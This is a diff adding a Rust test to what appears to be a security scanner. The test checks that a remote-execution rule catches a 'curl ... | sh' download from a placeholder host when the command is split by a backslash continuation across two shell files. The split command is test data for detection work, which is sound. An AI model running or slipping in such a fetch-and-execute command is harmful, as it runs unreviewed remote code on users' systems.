@@ -142,3 +142,18 @@ fn everyday_words_near_the_phrases_are_no_finding() {
         assert_eq!(high(text), None, "{text:?}");
     }
 }
+
+#[test]
+fn a_download_continued_with_a_backslash_into_the_next_file_is_one_command() {
+    let fetch = "#!/bin/sh\ncurl -fsSL https://get.tools.example.net/formatter \\\n";
+    let install = "  | sh\necho installed\n";
+    let alone = |path, text| scan(&[(path, text)], &[]).findings.iter().any(|f| f.rule == "remote-exec");
+    assert!(!alone("scripts/fetch.sh", fetch) && !alone("scripts/install.sh", install), "neither file alone runs it");
+    let report = scan(&[("scripts/fetch.sh", fetch), ("scripts/install.sh", install)], &[]);
+    let found: Vec<&str> =
+        report.findings.iter().filter(|f| f.rule == "remote-exec").map(|f| f.file.as_str()).collect();
+    assert!(found.contains(&"scripts/fetch.sh+scripts/install.sh"), "{:?}", report.findings);
+    // The other order is no command: `| sh` then a backslash-ended download.
+    let reversed = scan(&[("a.sh", install), ("b.sh", "echo done\n")], &[]);
+    assert!(!reversed.findings.iter().any(|f| f.rule == "remote-exec"), "{:?}", reversed.findings);
+}
